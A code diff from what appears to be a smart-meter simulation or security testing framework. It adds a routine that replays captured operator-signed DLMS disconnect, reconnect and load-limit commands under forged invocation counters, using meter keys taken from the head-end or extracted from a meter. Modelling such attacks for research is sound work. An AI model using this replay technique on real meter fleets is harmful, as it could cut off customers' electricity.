@@ -474,3 +474,64 @@ int msim_attack_overcollect(msim_t *s, sg17_ctx_t *ctx, const sg17_params_t *p)
     free(all);
     return 0;
 }
+
+/* The kind of an operator-signed APDU ("disconnect", "reconnect", "load_limit"), or NULL. */
+static const char *signed_kind(const uint8_t *apdu, size_t len)
+{
+    dlms_action_request_t a;
+    dlms_set_request_t q;
+    if (len && apdu[0] == DLMS_APDU_ACTION_REQUEST && dlms_action_request_decode(apdu, len, &a) == 0
+        && a.method.class_id == DLMS_CLASS_DISCONNECT_CONTROL)
+        return a.method.index == DLMS_METHOD_REMOTE_DISCONNECT  ? "disconnect"
+               : a.method.index == DLMS_METHOD_REMOTE_RECONNECT ? "reconnect"
+                                                                : NULL;
+    if (len && apdu[0] == DLMS_APDU_SET_REQUEST && dlms_set_request_decode(apdu, len, &q) == 0
+        && q.attr.class_id == DLMS_CLASS_LIMITER)
+        return "load_limit";
+    return NULL;
+}
+
+/* Re-wrapping a captured signed command: whoever holds a meter's suite-0 keys (the HES key store,
+ * or a fleet key extracted from any meter) opens the HES's frames to it, keeps the operator's
+ * general-signing as it is (the signature still verifies: it covers the command, not the frame)
+ * and sends it again under a fresh invocation counter. Frames it cannot open are skipped. */
+int msim_attack_rewrap_command(msim_t *s, sg17_ctx_t *ctx, const sg17_params_t *p)
+{
+    const char *want = sg17_param(ctx, p, "command");
+    if (!want)
+        want = "disconnect";
+    if (strcmp(want, "disconnect") != 0 && strcmp(want, "reconnect") != 0
+        && strcmp(want, "load_limit") != 0 && strcmp(want, "any") != 0) {
+        sg17_log(ctx, "rewrap_command: command is disconnect, reconnect, load_limit or any");
+        return -1;
+    }
+    uint32_t ic = MSIM_FORGED_IC_BASE;
+    size_t n = sg17_captured_count(ctx, p);
+    for (size_t i = 0; i < n; i++) {
+        const sg17_msg_t *m = sg17_captured(ctx, p, i);
+        bool ok, ciphered;
+        unsigned j = msim_meter_index(s, ctx, m->dst, &ok);
+        if (!ok || strcmp(m->type, "metering.command") != 0)
+            continue;
+        const dlms_keys_t *k = adv_keys_for(s, j);
+        uint8_t plain[MSIM_FRAME_CAP];
+        size_t pl;
+        uint32_t got;
+        if (m->len && m->payload[0] == DLMS_APDU_GENERAL_GLO_CIPHERING && !k)
+            continue; /* ciphered, and it holds no key for that meter */
+        if (msim_unwrap(k, m->payload, m->len, s->hes_systitle, 0, DLMS_IC_NONE, plain,
+                        sizeof plain, &pl, &got, &ciphered)
+                != DLMS_SEC_OK
+            || pl == 0 || plain[0] != DLMS_APDU_GENERAL_SIGNING)
+            continue;
+        dlms_general_signing_t g;
+        const char *kind;
+        if (dlms_general_signing_decode(plain, pl, &g) || !g.content
+            || !(kind = signed_kind(g.content, g.content_len))
+            || (strcmp(want, "any") != 0 && strcmp(want, kind) != 0))
+            continue;
+        if (adv_command(s, ctx, j, "metering.command", plain, pl, &ic) < 0)
+            return -1;
+    }
+    return 0;
+}
